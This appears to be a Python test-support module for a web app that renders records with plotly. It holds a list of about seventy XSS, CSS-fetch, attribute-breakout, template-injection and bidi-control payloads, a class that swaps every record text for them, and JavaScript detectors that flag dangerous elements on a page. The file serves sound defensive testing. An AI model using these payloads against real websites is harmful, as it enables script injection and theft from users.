"""Texts that would do harm where a page, a table or a figure took them for more than text; and records full of them.

A page is tested with records in which every text is replaced: ``disguised`` walks through a record by its types, and
``Disguise`` gives each text that it meets one of its own, which holds all payloads. Each begins with another payload,
because some places show the beginning of a text only.
"""

from __future__ import annotations

import dataclasses
import re
import types
from collections.abc import Callable, Collection, Mapping, Sequence
from typing import Annotated, Any, Literal, Union, get_args, get_origin, get_type_hints

from pydantic import BaseModel
from typing_extensions import is_typeddict

# What a payload runs: a test looks for the canary. ``alert`` would be heard as a dialog, too.
RUN = "window.canary=1"
ALERT = f"{RUN};alert`1`"
AWAY = "https://evil.invalid"

PAYLOADS: tuple[str, ...] = (
    # Scripts, and what ends the element that a text may lie in.
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT type=module>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/src={AWAY}/a.js></script>",
    f"<!--><script>{RUN}</script>-->",
    f'--><img src=x onerror="{RUN}"><!--',
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script>',
    f"</title></style></textarea></noscript><script>{RUN}</script>",
    f"</option></select></template><img src=x onerror='{ALERT}'>",
    # Elements that run something, or ask somebody.
    f'<img src=x onerror="{ALERT}">',
    f"<img/src=x/onerror={RUN}>",
    f'<img src={AWAY}/a.png srcset="{AWAY}/b.png 2x">',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a></svg>',
    f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>',
    f"<svg><use href={AWAY}/a.svg#a /><image href={AWAY}/b.png /></svg>",
    f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
    f'<body onload="{RUN}" background={AWAY}/a.png>',
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    f"<iframe src={AWAY}/></iframe>",
    f'<object data="javascript:{RUN}"></object><embed src={AWAY}/a.swf>',
    f'<a href="javascript:{RUN}">go</a>',
    f'<a href="jAvAsCrIpT&colon;{RUN}" target=_top>go</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">go</a>',
    f'<details open ontoggle="{RUN}"><summary>go</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video autoplay poster={AWAY}/a.png><source onerror="{RUN}"></video>',
    f"<audio src={AWAY}/a.mp3 autoplay onerror={RUN}>",
    f"<marquee onstart={RUN}>go</marquee>",
    f'<form action="javascript:{RUN}"><button autofocus formaction={AWAY}>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<meta http-equiv=refresh content=0;url={AWAY}/>",
    f'<base href="{AWAY}/" target=_blank>',
    f"<link rel=stylesheet href={AWAY}/a.css><link rel=preload as=image href={AWAY}/a.png>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    # Styles.
    f'<style>@import "{AWAY}/a.css"; body {{ display: none }}</style>',
    "</style><style>* { display: none !important }</style>",
    f'<div style="position:fixed;inset:0;background:url({AWAY}/a.png)">all over it</div>',
    f";}} body {{ background: url({AWAY}/a.png) }} i {{ color: red",
    # Attributes: out of double quotes, single quotes, none.
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex=0 x='",
    f"x onpointerenter={RUN} y",
    f"""'"><svg onload='{RUN}'>""",
    f"javascript:{RUN}//",
    # Strings of scripts and JSON, templates.
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"`+{RUN}+`${{{RUN}}}",
    f'\u2028{RUN}\u2029"}}]}}//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{ 7 * 7 }}}}{{{{ constructor.constructor('{RUN}')() }}}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}<%= 7 * 7 %>#{7*7}",
    # What plotly reads: a subset of HTML, its own templates, formulas.
    f'<b>bold</b><i>i</i><sup>up</sup><br><a href="{AWAY}/" target="_top" popup="width=9">there</a>',
    f'<span style="background:url({AWAY}/a.png)">%{{x}}</span><extra>{RUN}</extra>',
    "%{y} %{customdata} %{xaxis.title.text} $\\alpha$ &lt;b&gt;&#60;i&#62;&nbsp;",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;img src=x onerror={RUN}&#x3e;",
    # Ids and names that scripts of the page look for.
    "<a id=explorer name=plotly></a><form id=unveil name=body><input name=textContent></form><img name=getElementById>",
    "__proto__",
    "constructor",
    # Direction, control characters, Markdown.
    "\u202egnp.exe \u2066first\u2067second",
    f"nul\x00 bell\x07 escape\x1b[31m <scr\x00ipt>{RUN}</script>",
    f"![x]({AWAY}/a.png) [go](javascript:{RUN}) **a** | b | `c`",
    f"\n\n<script>{RUN}</script>\n\n| a | b |\n| --- | --- |\n```\n",
)
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


def everything(first: int = 0) -> str:
    """All payloads in one text, the ``first``-th of them first."""
    first %= len(PAYLOADS)
    return "  ".join((*PAYLOADS[first:], *PAYLOADS[:first]))


class Disguise:
    """Gives each text one of its own that holds all payloads: the same text always the same one.

    ``judges`` are texts that name judges. Theirs lack the signs that make a name an ensemble's, which would be one of
    the same members as every other.
    """

    def __init__(self, *judges: str) -> None:
        self.known: dict[str, str] = {}
        self._judges = judges

    def __call__(self, text: str, path: str = "") -> str:
        """``text`` disguised; an empty text stays empty."""
        if not text:
            return text
        if text not in self.known:
            # A number keeps texts apart that begin with the same payload.
            made = f"{everything(len(self.known))} {len(self.known)}"
            self.known[text] = re.sub("[(),#]", "", made) if text in self._judges else made
        return self.known[text]


def disguised(
    value: Any, kind: Any, text: Callable[[str, str], str], *, keep: Collection[str] = (), path: str = ""
) -> Any:
    """``value`` of the type ``kind`` with every text in it replaced by ``text(it, path)``, keys of mappings too.

    Models and dataclasses become dicts with the names that they have as JSON. A path is Class.field. What a type
    restricts to certain words stays, and so does what is ``keep``: its path names a field that is left as it is, or
    "path keys" only the keys of a mapping. Where the type says nothing (``Any``), keys stay.
    """
    if path in keep:
        return value
    kind = _chosen(kind, value)
    origin, args = get_origin(kind), get_args(kind)

    def inner(one: Any, of: Any) -> Any:
        return disguised(one, of, text, keep=keep, path=path)

    if value is None or origin is Literal:
        return value
    if isinstance(value, str):
        return text(value, path)
    if (fields := _fields(kind)) is not None:
        found = value if isinstance(value, Mapping) else {name: getattr(value, name) for name in fields}
        named = {alias: (name, of) for name, (alias, of) in fields.items()}
        named |= {name: (name, of) for name, (_, of) in fields.items()}
        return {
            key: disguised(one, named[key][1], text, keep=keep, path=f"{kind.__name__}.{named[key][0]}")
            for key, one in found.items()
        }
    if isinstance(value, Mapping):
        of_keys, of_values = args if len(args) == 2 else (Any, Any)
        stay = of_keys is Any or f"{path} keys" in keep
        return {(key if stay else inner(key, of_keys)): inner(one, of_values) for key, one in value.items()}
    if isinstance(value, Sequence):
        if origin is tuple and args and args[-1] is not Ellipsis:
            return [inner(one, of) for one, of in zip(value, args, strict=True)]
        return [inner(one, args[0] if args else Any) for one in value]
    return value


def _chosen(kind: Any, value: Any) -> Any:
    """Of a union's types, the one that ``value`` has."""
    while get_origin(kind) is Annotated:
        kind = get_args(kind)[0]
    if get_origin(kind) not in (Union, types.UnionType):
        return kind
    for one in get_args(kind):
        plain = get_origin(one) or one
        if one is not type(None) and (plain is Any or plain is Literal or _fields(one) or isinstance(value, plain)):
            return one
    return Any


def _fields(kind: Any) -> dict[str, tuple[str, Any]] | None:
    """(name as JSON, type) of a record's fields by name; None for what is no record."""
    if not isinstance(kind, type):
        return None
    if issubclass(kind, BaseModel):
        return {name: (field.alias or name, field.annotation) for name, field in kind.model_fields.items()}
    if is_typeddict(kind) or dataclasses.is_dataclass(kind):
        return {name: (name, of) for name, of in get_type_hints(kind).items()}
    return None


def squashed(text: str) -> str:
    """Without blanks and the signs that make them visible, and without what a page replaces."""
    return re.sub(r"[\s·⏎→\ufffd\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]+", "", text)


# What no page of ours has, whatever is in its records: an element that runs or fetches, an attribute that does.
# ``known`` is a selector of those that a page has.
STRANGERS = """known => {
  const found = [];
  for (const e of document.querySelectorAll(`:not(${known})`)) {
    const strange = /^(iframe|frame|object|embed|applet|form|video|audio|source|img|map|area|marquee|math|base)$/;
    const others = /^(link|textarea|template|foreignObject|animate|set|use|mglyph)$/i;
    if (strange.test(e.localName) || others.test(e.localName)) found.push(e.outerHTML);
    for (const { name, value } of e.attributes) {
      const where = /^(href|xlink:href|src|srcset|action|formaction|poster|background|data|ping|srcdoc)$/i.test(name);
      if (/^on/i.test(name) || (where && !/^(#|data:image\\/png;)/.test(value))) {
        found.push(`${e.localName} ${name}=${value}`);
      }
      if (/url\\((?!["']?#)/.test(value) && e.closest("svg")) found.push(`${e.localName} ${name}=${value}`);
      if (name === "style" && /url\\(|expression/.test(value) && !e.closest("svg")) found.push(value);
    }
  }
  return found.map(one => one.slice(0, 200));
}"""
# Characters that turn what follows them around, where they would turn around what the page itself says.
TURNING = """() => {
  const turning = /[\\u202a-\\u202e\\u2066-\\u2069]/;
  const found = [], walk = document.createTreeWalker(document, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const parent = walk.currentNode.parentElement;
    if (turning.test(walk.currentNode.data) && !parent.closest("blockquote, .text, code, #guideline, script, style")) {
      found.push(parent.outerHTML.slice(0, 200));
    }
  }
  for (const e of document.querySelectorAll("[title], [placeholder]")) {
    if (turning.test(e.title + e.placeholder)) found.push(e.outerHTML.slice(0, 200));
  }
  return found;
}"""
TEXTS = """() => {
  const found = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    if (!/^(script|style)$/.test(walk.currentNode.parentNode.localName)) found.push(walk.currentNode.data);
  }
  return found.join(" ");
}"""
